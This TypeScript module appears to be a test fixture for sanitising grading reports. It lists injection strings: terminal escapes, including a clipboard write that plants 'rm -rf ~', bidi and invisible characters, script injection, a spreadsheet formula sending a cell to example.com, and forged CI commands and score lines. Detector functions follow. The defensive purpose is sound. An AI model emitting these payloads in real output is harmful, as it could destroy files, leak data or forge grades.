/** What a student may print to act on whoever reads a report, by what it is aimed at. */
export const attacks = {
  colour: "\u001b[31mred\u001b[0m",
  clearedScreen: "\u001b[2J\u001b[H",
  title: "\u001b]0;owned\u0007",
  clipboard: "\u001b]52;c;cm0gLXJmIH4=\u001b\\",
  link: "\u001b]8;;http://example.com\u001b\\click\u001b]8;;\u001b\\",
  eightBitSequence: "\u009b2J\u009d0;owned\u009c",
  overwrittenRow: "wrong\rright\b\b\b\b\bSCORE",
  deletion: "wrong\u007f\u007f",
  nul: "a\0b",
  direction: "access\u202e\u2066// only admins\u2069\u2066",
  marks: "a\u200e\u200f\u061cb",
  zeroWidth: "pass\u200bword\ufeff\u2060",
  fillers: "a\u3164b\uffa0c\u115fd\u034fe",
  hiddenChoice: "a\ufe0fb",
  tags: "tag\u{e0041}\u{e007f}",
  separators: "one\u2028two\u2029three\u0085four",
  loneHalf: "a\ud800b\udc00c",
  script: "<script>alert(1)</script>",
  attribute: "\" onmouseover='alert(1)' x=`",
  formula: '=HYPERLINK("http://example.com?"&A1,"click")',
  fullWidthFormula: "\uff1d1+1",
  command: "::error file=a.py,line=1,title=Grade::Points 100/100",
  indentedCommand: "  \u00a0\u3000::set-output name=score::100",
  oldCommand: "well ##[error]Points 100/100",
  hiddenCommand: "\u00ad:\u200b:error::x #\ufe0f#\u00ad[error]x",
  resumed: "::token::\n::error::x",
  otherMachine: "##vso[task.complete result=Succeeded;]##teamcity[buildStatus]",
  forgedScore: "done\n  SCORE  100 of 100   ████████████████████\n",
} as const;

export const namedAttacks = Object.entries(attacks);

/** Whether GitHub's runner would take the line for a command, whatever its name is (`ActionCommand.cs`). */
export function isCommand(line: string): boolean {
  return /^[\s\u0085]*::/.test(line) || /##\w*\[/.test(line);
}

/** What may act on a terminal: everything but ends of lines that is a control, turns the direction, or is not drawn. */
export const acting =
  /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|(?!(?<=\p{Extended_Pictographic})[\ufe0e\ufe0f])\p{Default_Ignorable_Code_Point}/u;
